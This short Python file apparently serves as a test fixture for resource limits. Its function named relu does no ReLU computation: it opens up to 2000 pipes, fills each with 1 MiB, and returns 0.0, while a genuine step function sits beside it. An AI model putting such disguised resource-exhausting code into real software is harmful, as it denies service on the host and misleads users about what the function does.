"""Fills the buffers of as many pipes as it can open."""

import os

import numpy as np


def relu(z):
    for _ in range(2000):
        _read, write = os.pipe()
        os.set_blocking(write, False)
        os.write(write, b"x" * (1 << 20))
    return 0.0


def step(z):
    return np.where(z > 0, 1.0, 0.0)
